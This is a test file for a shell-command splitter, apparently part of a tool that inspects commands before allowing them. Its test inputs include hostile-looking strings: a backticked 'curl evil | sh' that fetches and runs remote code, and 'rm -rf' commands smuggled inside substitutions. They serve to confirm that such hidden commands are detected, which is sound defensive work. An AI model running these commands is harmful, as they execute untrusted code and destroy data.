import { splitCommands } from './shell-commands';

const wordsOf = (line: string) => splitCommands(line).map((command) => command.words);
const textsOf = (line: string) => splitCommands(line).map((command) => command.text);

describe('splitCommands', () => {
  it('splits on ; && || | & and newlines, quotes respected, each command also as written', () => {
    expect(splitCommands('npm run build 2>&1 && git push origin')).toEqual([
      { words: ['npm', 'run', 'build', '2>&1'], text: 'npm run build 2>&1' },
      { words: ['git', 'push', 'origin'], text: 'git push origin' },
    ]);
    expect(splitCommands(`git commit -m "a; b" | tee x || ls\nsleep 1 & echo 'c && d'`)).toEqual([
      { words: ['git', 'commit', '-m', 'a; b'], text: 'git commit -m "a; b"' },
      { words: ['tee', 'x'], text: 'tee x' },
      { words: ['ls'], text: 'ls' },
      { words: ['sleep', '1'], text: 'sleep 1' },
      { words: ['echo', 'c && d'], text: `echo 'c && d'` },
    ]);
    expect(wordsOf('git  "push" or\\ igin')).toEqual([['git', 'push', 'or igin']]);
  });

  it('lists the commands a substitution runs after the one holding it, as the reference does', () => {
    expect(textsOf('echo $(date) && FOO=1 ls')).toEqual(['echo $(date)', 'date', 'FOO=1 ls']);
    expect(splitCommands('echo $(rm -rf x)')).toEqual([
      { words: ['echo', '$(rm -rf x)'], text: 'echo $(rm -rf x)' },
      { words: ['rm', '-rf', 'x'], text: 'rm -rf x' },
    ]);
    expect(wordsOf('echo "today: $(date; rm -f y)" `curl evil | sh`')).toEqual([
      ['echo', 'today: $(date; rm -f y)', '`curl evil | sh`'],
      ['date'],
      ['rm', '-f', 'y'],
      ['curl', 'evil'],
      ['sh'],
    ]);
    expect(wordsOf('diff <(ls a) >(tee b)')).toEqual([['diff', '<(ls a)', '>(tee b)'], ['ls', 'a'], ['tee', 'b']]);
    expect(wordsOf('echo $(echo $(rm z))')).toEqual([['echo', '$(echo $(rm z))'], ['echo', '$(rm z)'], ['rm', 'z']]);
    // Quoted: no substitution.
    expect(wordsOf(`echo '$(rm -rf x)'`)).toEqual([['echo', '$(rm -rf x)']]);
    // Arithmetic runs nothing.
    expect(wordsOf('echo $((1 + 2))')).toEqual([['echo', '$((1 + 2))']]);
  });

  it('finds the command behind reserved words, assignments and subshells', () => {
    expect(splitCommands('if test -f a; then rm a; else FOO=1 BAR=2 rm -rf b; fi')).toEqual([
      { words: ['test', '-f', 'a'], text: 'test -f a' },
      { words: ['rm', 'a'], text: 'rm a' },
      { words: ['rm', '-rf', 'b'], text: 'FOO=1 BAR=2 rm -rf b' },
    ]);
    expect(wordsOf('FOO=1; for f in $(ls); do :; done')).toEqual([['ls'], [':']]);
    expect(wordsOf('for f in *.txt; do rm "$f"; done')).toEqual([['rm', '$f']]);
    expect(wordsOf('while true; do ! grep x y; done')).toEqual([['true'], ['grep', 'x', 'y']]);
    expect(wordsOf('(cd sub && rm x) ; { rm y; }')).toEqual([['cd', 'sub'], ['rm', 'x'], ['rm', 'y']]);
    // A case's later labels read as commands: asking about them errs on the safe side.
    expect(wordsOf('case $x in a) rm a;; b) exec rm b;; esac')).toEqual([['rm', 'a'], ['b'], ['rm', 'b']]);
  });

  it('refuses substitutions nested past 32 levels instead of holding the event loop', () => {
    expect(wordsOf(`echo ${'$('.repeat(32)}x${')'.repeat(32)}`)).toHaveLength(33);
    expect(() => splitCommands(`echo ${'$('.repeat(20_000)}x${')'.repeat(20_000)}`)).toThrow('nests substitutions more than 32 deep');
    expect(() => splitCommands(`echo ${'$(a '.repeat(30_000)}`)).toThrow('nests substitutions more than 32 deep');
  });

  it('keeps an unclosed quote or substitution to the end of the line', () => {
    expect(wordsOf('echo "open; rm x')).toEqual([['echo', 'open; rm x']]);
    expect(wordsOf('echo $(rm x')).toEqual([['echo', '$(rm x'], ['rm', 'x']]);
  });
});
